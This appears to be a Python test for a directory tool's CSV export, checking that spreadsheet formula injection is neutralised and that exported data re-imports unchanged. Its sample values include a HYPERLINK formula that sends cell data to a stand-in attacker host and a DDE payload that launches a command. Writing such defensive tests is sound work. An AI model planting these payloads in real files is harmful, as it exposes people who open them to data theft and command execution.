"""Directory export: a cell a spreadsheet would evaluate as a formula is written as text."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from mla_tool.directory.authorities import create_authority, find_authorities
from mla_tool.directory.transfer import export_entries, import_entries, read_rows
from mla_tool.extensions import db

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "phone": "+33 1 44 77 60 00",
    "email": "@SUM(1+1)@example.org",
    "address": "-2+3",
    "requirements": "\tcmd|' /C calc'!A0",
}


def test_export_escapes_formulas_and_reads_back_unchanged(tmp_path: Path) -> None:
    entry = {"country": "TUN", "functions": ["central_authority_mla"], **HOSTILE}
    entry["email"] = "plain@example.org"  # an address must stay an address
    entry["contact_persons"] = "@Madame Ben Ali"
    create_authority(entry)
    db.session.commit()
    text = export_entries("csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 1
    for value in rows[0].values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert rows[0]["name"] == "'" + HOSTILE["name"]
    assert rows[0]["phone"] == "'+33 1 44 77 60 00"
    # the importer reads its own export back to the same entry
    path = tmp_path / "export.csv"
    path.write_text(text, encoding="utf-8")
    report = import_entries(read_rows(path))
    assert report.ok and report.unchanged == 1, report.errors
    stored = find_authorities(country="TUN")[0]
    assert stored.name == HOSTILE["name"] and stored.phone == HOSTILE["phone"]
